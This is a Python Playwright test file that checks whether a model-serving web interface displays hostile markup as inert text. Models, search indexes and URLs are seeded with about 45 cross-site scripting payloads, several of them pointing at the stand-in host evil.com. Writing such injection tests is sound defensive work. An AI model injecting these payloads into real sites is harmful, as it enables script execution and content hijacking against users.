"""T22: markup injection in a real browser: in words, labels, model names, texts and addresses.

Everything on the pages comes from a model, a folder or a visitor. Each of these places gets payloads that would run if
they were interpreted as markup. All of them must be displayed as text: no dialog may open, the page's content security
policy must not be violated, and no other host may be contacted.
"""

import contextlib
import os
import re
import shutil
import tempfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field, replace
from pathlib import Path
from urllib.parse import quote, urlencode

from playwright.sync_api import Browser, ConsoleMessage, Dialog, Page, Request, sync_playwright
from tests.model.made import SMALL, model_folder, vocabulary

from cloze.checkpoint import ModelFolder, TaskLabels, save_folder
from cloze.predict.search.building import index as build_index
from cloze.progress import Progress
from cloze.serve.settings import ServiceSettings
from cloze.text import Tokenizer
from torture.campaign import Outcome
from torture.services import listening, running

_MOST_FAILURES = 10
_PATIENCE = 20_000  # timeout in milliseconds
_MASK, _NO_BREAK = "[MASK] ", "\N{NO-BREAK SPACE}"
# Matches the text that surrounds a displayed payload.
_TEXT_ALONE = re.compile(r"^\[MASK\] | \(\d+ numbers\)$")
# The places where payloads appear on the pages.
PLACES = ("words", "labels", "tags", "names", "texts", "attended texts", "ids", "passages", "fields")
# Each payload would run "alert" in a different context: between tags, or in an attribute, script, address or style.
PAYLOADS = [
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>"),
    *('"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", "</title><script>alert(1)</script>"),
    *("</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>", "<iframe src=javascript:alert(1)>"),
    *("<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>"),
    *("<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>"),
    *("<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>"),
    *("<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<form action=javascript:alert(1)>"),
    *("<math><mi xlink:href=javascript:alert(1)>", "<base href=//evil.example/>"),
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    *("<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>"),
    *("<img src=//evil.example/x.png>", "<script src=//evil.example/x.js></script>"),
    "{{constructor.constructor('alert(1)')()}}",
    *("${alert(1)}", "`${alert(1)}`", "';alert(1);//", '";alert(1);//', "\\';alert(1);//", "<!--<script>alert(1)//-->"),
    *("<scr<script>ipt>alert(1)</scr</script>ipt>", "<ScRiPt>alert(1)</sCrIpT>", "%3Cscript%3Ealert(1)%3C/script%3E"),
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "<svg><script>alert&#40;1)</script>"),
    "<template><script>alert(1)</script>",
]


@dataclass(frozen=True)
class PageSettings:
    """The payloads."""

    payloads: Sequence[str] = tuple(PAYLOADS)


@dataclass
class Watch:
    """Violations that were observed on a page."""

    address: str
    dialogs: list[str] = field(default_factory=list)
    violations: list[str] = field(default_factory=list)
    outside: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def over(self, page: Page) -> None:
        """Attach to a page."""
        page.on("dialog", self._close)
        page.on("pageerror", lambda error: self.errors.append(str(error)))
        page.on("console", self._note)
        page.on("request", self._compare)

    def _close(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _note(self, message: ConsoleMessage) -> None:
        if message.type == "error" and "Content Security Policy" in message.text:
            self.violations.append(message.text)

    def _compare(self, request: Request) -> None:
        if not request.url.startswith(self.address):
            self.outside.append(request.url)

    @property
    def failures(self) -> list[str]:
        """All violations, one line each."""
        named = {"dialog": self.dialogs, "violation": self.violations, "outside": self.outside, "error": self.errors}
        return [f"{name}: {one[:150]}" for name, found in named.items() for one in found]


def chromium() -> str | None:
    """Return the path of the browser, or None."""
    return os.environ.get("CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")


@contextlib.contextmanager
def browsing() -> Iterator[Browser]:
    """Start a headless browser."""
    with sync_playwright() as play:
        browser = play.chromium.launch(executable_path=chromium(), args=["--no-sandbox", "--disable-gpu"])
        try:
            yield browser
        finally:
            browser.close()


@dataclass
class Shown:
    """The payloads displayed on a page, by place; a payload inside another one is not counted separately."""

    payloads: Sequence[str]
    places: dict[str, set[str]] = field(default_factory=lambda: {place: set() for place in PLACES})

    def note(self, place: str, texts: Sequence[str]) -> None:
        """Compare the texts of page elements with the payloads."""
        self.places[place].update(set(self.payloads).intersection(texts))

    @property
    def failures(self) -> list[str]:
        """Return the payloads that were not displayed, one line per place."""
        missing = {place: [one for one in self.payloads if one not in found] for place, found in self.places.items()}
        return [f"as {place}: {len(ones)} were not shown, such as {ones[0]}" for place, ones in missing.items() if ones]


def run(settings: PageSettings, progress: Progress) -> Outcome:
    """Enter payloads into every field of every tab, with models whose words, labels and names are payloads too."""
    if chromium() is None:
        return Outcome(False, {}, ["chromium not found; install it, or set CHROMIUM to its path"])
    with browsing() as browser:
        return attack(browser, settings.payloads, progress)


def attack(browser: Browser, payloads: Sequence[str], progress: Progress) -> Outcome:
    """Run the test in an open browser."""
    shown = Shown(payloads)
    with tempfile.TemporaryDirectory() as folder:
        folders = hostile_folders(Path(folder), payloads)
        index = hostile_index(Path(folder) / "index", folders["words"], payloads)
        service_settings = ServiceSettings(folders, index=index)
        with running(service_settings) as service, listening(service) as address:
            watch = Watch(address)
            tried = visit(browser, address, watch, shown, progress)
    figures: dict[str, str | int | float] = {
        "payloads": len(payloads),
        "questions": tried,
        **{f"shown as {place}": len(found) for place, found in shown.places.items()},
        "dialogs": len(watch.dialogs),
        "violations": len(watch.violations),
        "outside requests": len(watch.outside),
    }
    failures = [*watch.failures, *shown.failures]
    return Outcome(not failures and tried > 0, figures, failures[:_MOST_FAILURES])


def hostile_folders(folder: Path, payloads: Sequence[str]) -> dict[str, str]:
    """Create models with payloads as labels and pieces, and per payload a model of that name with only that tag."""
    labels = model_folder(["sequence"], labels=len(payloads), task=TaskLabels("classify", tuple(payloads)))
    made = {
        "words": _hostile_words(payloads),
        "labels": labels,
        "spans": model_folder(["span"], task=TaskLabels("answer")),
        "options": model_folder(["choice"], task=TaskLabels("choose")),
        **{one: model_folder(["token"], labels=1, task=TaskLabels("tag", (f"B-{one}",))) for one in payloads},
    }
    folders = {}
    for number, (name, contents) in enumerate(made.items()):
        save_folder(contents, folder / str(number))
        folders[name] = str(folder / str(number))
    return folders


def hostile_index(folder: Path, model: str, payloads: Sequence[str]) -> str:
    """Build an index whose ids, texts and fields are payloads."""
    rows = [{"id": one, "text": one, "field": one} for one in payloads]
    build_index(rows, folder, model=model, precision="fp32", progress=False)
    return str(folder)


def _hostile_words(payloads: Sequence[str]) -> ModelFolder:
    """Return a model that fills blanks with payloads."""
    words = [*vocabulary(25), *(payload.replace(" ", _NO_BREAK) for payload in payloads)]
    config = replace(SMALL, vocab_size=len(words))
    tokenizer = Tokenizer.from_vocabulary(words, lowercase=False, max_length=32)
    return replace(model_folder(["mlm"], config=config), tokenizer=tokenizer)


def visit(browser: Browser, address: str, watch: Watch, shown: Shown, progress: Progress) -> int:
    """Use every page with every payload; return the number of requests."""
    page = browser.new_page()
    page.set_default_timeout(_PATIENCE)
    watch.over(page)
    page.goto(f"{address}/docs")
    page.wait_for_selector(".route")
    tried = ask_tabs(page, address, shown, progress)
    for done, payload in enumerate(shown.payloads, start=1):
        ask_by_name(page, address, payload, shown)
        look_at(page, address, payload, shown)
        search_for(page, address, payload, shown)
        open_address(page, address, payload)
        tried += 4
        progress.advance("T22: payloads", done, len(shown.payloads))
    page.close()
    return tried


def ask_tabs(page: Page, address: str, shown: Shown, progress: Progress) -> int:
    """Use every tab with all payloads; return the number of requests."""
    page.goto(address)
    page.wait_for_selector("#tabs button")
    paths = page.eval_on_selector_all("#tabs button", "tabs => tabs.map(tab => tab.dataset.path)")
    tried = 0
    for done, path in enumerate(paths, start=1):
        for part in filter(None, (shown.payloads[:20], shown.payloads[20:])):
            open_tab(page, address, path)
            if not page.is_enabled("form button"):
                break
            ask_all(page, "\n".join(part))
            shown.note("texts", [_TEXT_ALONE.sub("", text) for text in _texts(page, "#result h3, #result td")])
            first = _texts(page, "#result td:first-child")
            if path == "/fill":
                shown.note("words", [text.replace(_NO_BREAK, " ") for text in first])
            if path == "/classify":
                shown.note("labels", first)
            tried += 1
        progress.advance("T22: tabs", done, len(paths))
    return tried


def open_tab(page: Page, address: str, path: str) -> None:
    """Open a tab and wait until the page shows it; the page follows the address."""
    page.goto(f"{address}/#{path}")
    page.wait_for_selector(f'#tabs button[data-path="{path}"][aria-selected=true]')


def ask_all(page: Page, text: str) -> None:
    """Enter a text into every field, request the maximum number of results, and view the response as JSON too."""
    for number in page.query_selector_all("form input[type=number]"):
        number.fill(number.get_attribute("max") or "1")
    for field_ in page.query_selector_all("form textarea, form input:not([type=number])"):
        mask = _MASK if page.inner_text("#title") == "Fill" else ""
        field_.fill("\n".join(f"{mask}{line}" for line in text.split("\n")))
    page.click("form button")
    page.wait_for_selector("#result > *")
    page.wait_for_selector("form button:not([disabled])")
    page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true })")


def ask_by_name(page: Page, address: str, payload: str, shown: Shown) -> None:
    """Use the model whose name is a payload; it tags every word with that payload."""
    open_tab(page, address, "/tag")
    page.select_option("form select", payload)
    ask_all(page, payload)
    shown.note("names", _texts(page, "form select option:checked"))
    shown.note("tags", [text.removeprefix("B-") for text in _texts(page, "#result td:nth-child(2)")])


def search_for(page: Page, address: str, payload: str, shown: Shown) -> None:
    """Search the index for a payload; all documents are payloads."""
    open_tab(page, address, "/search")
    page.fill("form input[name=query]", payload)
    page.fill("form input[name=top]", "100")
    page.click("form button")
    page.wait_for_selector("#result .hits, #result .error")
    page.wait_for_selector("form button:not([disabled])")
    shown.note("ids", _texts(page, "#result .hits h3"))
    shown.note("passages", _texts(page, "#result .hits p"))
    shown.note("fields", [text.partition("field: ")[2] for text in _texts(page, "#result .hits small")])


def look_at(page: Page, address: str, payload: str, shown: Shown) -> None:
    """Open the attention page with a payload as both texts and as the model name, and open every view."""
    query = urlencode({"a": payload, "b": f"{_MASK}{payload}", "model": payload})
    page.goto(f"{address}/inspect?{quote(payload)}#{query}")
    _open_views(page)
    shown.note("attended texts", _texts(page, "#texts span"))
    page.select_option("#ask-model", "words")
    page.fill("#text-a", f"{_MASK}{payload}")
    page.click("#ask button")
    page.wait_for_selector("#model:has-text('words, ')")
    _open_views(page)


def _open_views(page: Page) -> None:
    page.wait_for_selector("#stage[data-layer]")
    for tab in page.query_selector_all("#tabs button"):
        if tab.is_visible():
            tab.click()


def open_address(page: Page, address: str, payload: str) -> None:
    """Open an address that contains a payload, raw and quoted."""
    page.goto(f"{address}/?{quote(payload)}#{quote(payload)}")
    page.goto(f"{address}/?{payload}#{payload}")
    page.wait_for_selector("#tabs button")


def _texts(page: Page, selector: str) -> list[str]:
    """Return the text content of elements, regardless of styling."""
    found: list[str] = page.eval_on_selector_all(selector, "all => all.map(one => one.textContent)")
    return found
